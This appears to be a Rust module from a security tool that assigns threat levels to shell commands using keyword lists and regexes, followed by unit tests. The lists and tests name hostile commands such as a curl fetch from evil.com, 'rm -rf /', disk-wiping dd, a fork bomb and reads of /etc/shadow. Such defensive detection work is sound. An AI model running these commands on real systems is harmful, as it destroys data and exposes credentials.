//! Rule-based command severity
//!
//! Rules are checked from most to least severe and the first match wins,
//! so a command matching both a critical and a high rule is critical.

use once_cell::sync::Lazy;
use regex::Regex;

use crate::models::ThreatLevel;

/// Destructive or payload-fetching shapes that need more than a substring test
static CRITICAL_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"\brm\s+-rf",
        r"\bdd\b.*\bif=",
        r":\(\)\s*\{.*\}",
    ]
    .iter()
    .map(|pattern| Regex::new(pattern).expect("valid critical pattern"))
    .collect()
});

const CRITICAL_KEYWORDS: &[&str] = &["wget", "mkfs", "fork", "bomb"];
const HIGH_KEYWORDS: &[&str] = &[
    "passwd",
    "shadow",
    "sudoers",
    ".ssh",
    "authorized_keys",
    "crontab",
    "service",
];
const MEDIUM_KEYWORDS: &[&str] = &["chmod", "chown", "kill", "pkill", "history"];

/// Assign a threat level to a command string (case-insensitive)
pub fn classify(command: &str) -> ThreatLevel {
    let command = command.to_lowercase();

    if is_critical(&command) {
        ThreatLevel::Critical
    } else if contains_any(&command, HIGH_KEYWORDS) {
        ThreatLevel::High
    } else if contains_any(&command, MEDIUM_KEYWORDS) {
        ThreatLevel::Medium
    } else {
        ThreatLevel::Low
    }
}

fn is_critical(command: &str) -> bool {
    contains_any(command, CRITICAL_KEYWORDS)
        || (command.contains("curl") && command.contains("http"))
        || CRITICAL_PATTERNS.iter().any(|pattern| pattern.is_match(command))
}

fn contains_any(command: &str, keywords: &[&str]) -> bool {
    keywords.iter().any(|keyword| command.contains(keyword))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_reference_classifications() {
        assert_eq!(classify("wget http://x"), ThreatLevel::Critical);
        assert_eq!(classify("cat /etc/passwd"), ThreatLevel::High);
        assert_eq!(classify("chmod 777 f"), ThreatLevel::Medium);
        assert_eq!(classify("ls -la"), ThreatLevel::Low);
    }

    #[test]
    fn test_critical_rules() {
        assert_eq!(classify("curl http://evil.com/x.sh"), ThreatLevel::Critical);
        assert_eq!(classify("rm -rf /"), ThreatLevel::Critical);
        assert_eq!(classify("sudo rm   -rf /var/log"), ThreatLevel::Critical);
        assert_eq!(classify("rm -rfv /"), ThreatLevel::Critical);
        assert_eq!(classify("rm -rf*"), ThreatLevel::Critical);
        assert_eq!(classify("dd if=/dev/zero of=/dev/sda"), ThreatLevel::Critical);
        assert_eq!(classify("mkfs.ext4 /dev/sda1"), ThreatLevel::Critical);
        assert_eq!(classify(":(){ :|:& };:"), ThreatLevel::Critical);
        assert_eq!(classify("./fork_bomb"), ThreatLevel::Critical);
    }

    #[test]
    fn test_curl_without_http_is_not_critical() {
        assert_eq!(classify("curl --version"), ThreatLevel::Low);
        assert_eq!(classify("rm file.txt"), ThreatLevel::Low);
    }

    #[test]
    fn test_high_rules() {
        for command in [
            "cat /etc/shadow",
            "vi /etc/sudoers",
            "ls ~/.ssh",
            "echo key >> authorized_keys",
            "crontab -e",
            "service sshd stop",
        ] {
            assert_eq!(classify(command), ThreatLevel::High, "{}", command);
        }
    }

    #[test]
    fn test_medium_rules() {
        for command in ["chown root x", "kill -9 1", "pkill sshd", "history -c"] {
            assert_eq!(classify(command), ThreatLevel::Medium, "{}", command);
        }
    }

    #[test]
    fn test_case_insensitive() {
        assert_eq!(classify("WGET http://x"), ThreatLevel::Critical);
        assert_eq!(classify("Cat /ETC/PASSWD"), ThreatLevel::High);
        assert_eq!(classify("CHMOD +x a"), ThreatLevel::Medium);
    }

    #[test]
    fn test_first_match_wins() {
        // matches both a critical and a high rule
        assert_eq!(
            classify("wget http://x/passwd -O /etc/shadow"),
            ThreatLevel::Critical
        );
        // matches both a high and a medium rule
        assert_eq!(classify("chmod 600 ~/.ssh/authorized_keys"), ThreatLevel::High);
    }
}
